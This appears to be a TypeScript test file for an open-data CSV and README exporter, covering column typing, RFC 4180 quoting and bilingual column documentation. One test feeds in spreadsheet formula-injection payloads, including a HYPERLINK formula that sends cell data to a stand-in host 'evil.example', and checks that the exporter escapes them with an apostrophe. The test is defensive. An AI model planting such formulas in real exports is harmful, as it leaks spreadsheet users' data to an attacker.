import { parse } from 'csv-parse/sync';
import { DATASET_NAMES, DATASETS, type DatasetDefinition } from './open-data.columns.js';
import { catalogue, readme, shapeRows, toCsv } from './open-data.format.js';

const sample: DatasetDefinition = {
  ...DATASETS.resolutions,
  columns: [
    { name: 'title', type: 'text', description: { es: 'Título', en: 'Title' } },
    { name: 'count', type: 'integer', nullable: true, description: { es: 'Cuenta', en: 'Count' } },
    { name: 'codes', type: 'list', description: { es: 'Códigos', en: 'Codes' } },
    { name: 'present', type: 'boolean', description: { es: 'Presente', en: 'Present' } },
    { name: 'at', type: 'timestamp', description: { es: 'Hora', en: 'Time' } },
  ],
};

describe('open data formatting', () => {
  it('keeps the defined columns in order with their JSON types, and refuses a missing one', () => {
    const [row] = shapeRows(sample, [
      {
        extra: 'dropped',
        at: new Date('2026-03-01T12:00:00Z'),
        present: true,
        codes: ['A', 'B'],
        count: '7',
        title: 'Ñandú',
      },
    ]);
    expect(row).toEqual({
      title: 'Ñandú',
      count: 7,
      codes: ['A', 'B'],
      present: true,
      at: '2026-03-01T12:00:00.000Z',
    });
    expect(Object.keys(row!)).toEqual(sample.columns.map((c) => c.name));
    expect(() => shapeRows(sample, [{ title: 'x' }])).toThrow(/has no count/);
    expect(() =>
      shapeRows(sample, [{ title: null, count: null, codes: [], present: true, at: new Date() }]),
    ).toThrow(/title is null/);
  });

  it('writes RFC 4180 CSV: CRLF records, quotes around commas, quotes and line breaks', () => {
    const rows = shapeRows(sample, [
      { title: 'a, "b"\nc\rd', count: null, codes: ['X', 'Y'], present: false, at: new Date(0) },
    ]);
    const text = toCsv(sample, rows);
    expect(text).toBe(
      'title,count,codes,present,at\r\n"a, ""b""\nc\rd",,X;Y,false,1970-01-01T00:00:00.000Z\r\n',
    );
    expect(parse(text, { columns: true })).toEqual([
      { title: 'a, "b"\nc\rd', count: '', codes: 'X;Y', present: 'false', at: '1970-01-01T00:00:00.000Z' },
    ]);
    expect(toCsv(sample, [])).toBe('title,count,codes,present,at\r\n');
  });

  it('writes a text cell that starts like a formula as text, and leaves numbers and plain text alone', () => {
    const formula = '=HYPERLINK("https://evil.example/?d="&C2,"x")';
    const rows = shapeRows(sample, [
      { title: '=1+1', count: -2, codes: ['@SUM(A1)', '=B'], present: true, at: new Date(0) },
      { title: '+1', count: 3, codes: ['-1'], present: true, at: new Date(0) },
      { title: '\tx', count: null, codes: [], present: true, at: new Date(0) },
      { title: '\rx', count: null, codes: [], present: true, at: new Date(0) },
      { title: formula, count: null, codes: [], present: true, at: new Date(0) },
      { title: 'a=1', count: 0, codes: ['A'], present: true, at: new Date(0) },
    ]);
    const parsed = parse(toCsv(sample, rows), { columns: true }) as Record<string, string>[];
    expect(parsed.map((r) => [r.title, r.count, r.codes])).toEqual([
      ["'=1+1", '-2', "'@SUM(A1);=B"],
      ["'+1", '3', "'-1"],
      ["'\tx", '', ''],
      ["'\rx", '', ''],
      [`'${formula}`, '', ''],
      ['a=1', '0', 'A'],
    ]);
  });

  it('documents every column of every dataset, once, in both languages', () => {
    const text = readme({
      generatedAt: '2026-03-01T12:00:00.000Z',
      snapshot: 'test',
      readme: 'README.md',
      datasets: [],
    });
    for (const name of DATASET_NAMES) {
      const names = DATASETS[name].columns.map((c) => c.name);
      expect(new Set(names).size).toBe(names.length);
      for (const column of DATASETS[name].columns) {
        expect(column.description.es).not.toBe(column.description.en);
        expect(text).toContain(`| \`${column.name}\` |`);
        if (column.type === 'enum') expect(column.values?.length).toBeGreaterThan(1);
      }
    }
    expect(catalogue().datasets.map((d) => d.name)).toEqual([...DATASET_NAMES]);
    expect(text).toContain("prefixed with an apostrophe `'`");
    expect(catalogue().formats.csv.en).toContain('formula');
  });
});
